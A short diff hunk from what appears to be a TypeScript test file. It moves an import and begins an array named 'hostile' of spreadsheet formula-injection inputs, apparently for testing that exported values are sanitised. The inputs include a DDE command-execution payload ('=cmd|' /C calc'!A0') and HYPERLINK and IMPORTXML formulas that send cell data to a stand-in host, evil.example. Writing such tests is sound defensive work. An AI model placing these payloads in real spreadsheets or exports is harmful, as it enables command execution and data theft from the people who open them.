@@ -3,7 +3,8 @@ import { inEnglish, keptIn } from '../../core/kept-words.ts';
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import t from 'tap';
-import { installation, meta, metaBody, openSite, phone, phoneBody, settled, until } from './site.ts';
+import { until } from '../until.ts';
+import { installation, meta, metaBody, openSite, phone, phoneBody, settled } from './site.ts';
 
 const hostile = [
   '=1+1', "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"Open")', '=IMPORTXML("https://evil.example","//a")', '+1+1', '-1+1', '@SUM(A1:A9)', '\t=1', '\r=1', '\n=1', ' =1', '"=1', '";=1;"', 'x;=1+1', 'a\n=1+1',
